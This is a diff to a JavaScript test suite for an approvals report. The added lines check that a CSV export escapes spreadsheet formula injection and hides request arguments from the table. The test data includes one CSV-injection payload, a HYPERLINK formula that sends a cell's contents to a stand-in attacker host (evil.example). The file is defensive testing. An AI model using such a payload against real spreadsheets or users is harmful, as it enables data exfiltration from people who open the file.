@@ -111,6 +111,29 @@ test('the report is for those who see every receipt', async () => {
     assert.equal(status, 200);
     assert.match(text, /Alex Approver<\/th><td class="number">1<\/td><td class="number">100 %/);
   }
+  await house.approvals.vote({
+    approvalId: await asked(pay('6.00', 'Refused')),
+    principal: 'approver-a',
+    verdict: 'reject',
+    comment: '=HYPERLINK("https://evil.example/?x="&A1,"open")',
+    channel: 'web',
+  });
+  const table = await inbox.get('/approvals/report.csv?days=7', 'approver-a');
+  assert.equal(table.status, 200);
+  const rows = table.text.split('\r\n');
+  assert.match(
+    rows[0] ?? '',
+    /^request,asked at,title,tool,asked by,rules,outcome,decided at,seconds,votes,comments$/,
+  );
+  const row = rows.find((one) => one.startsWith(id)) ?? '';
+  assert.match(
+    row,
+    /,ledger\.transfer,Robin Requester,payment_needs_approval,approved,.*,Alex Approver: approve \(web\),$/,
+  );
+  assert.ok(!table.text.includes('Reported'), 'no argument leaves with the table');
+  // What a spreadsheet would run begins with an apostrophe.
+  assert.match(table.text, /,"'=HYPERLINK\(""https:/);
+  assert.equal((await inbox.get('/approvals/report.csv', 'requester')).status, 403);
   assert.match((await inbox.get('/approvals', 'approver-a')).text, /href="\/approvals\/report"/);
   assert.doesNotMatch((await inbox.get('/approvals', 'requester')).text, /approvals\/report/);
 });
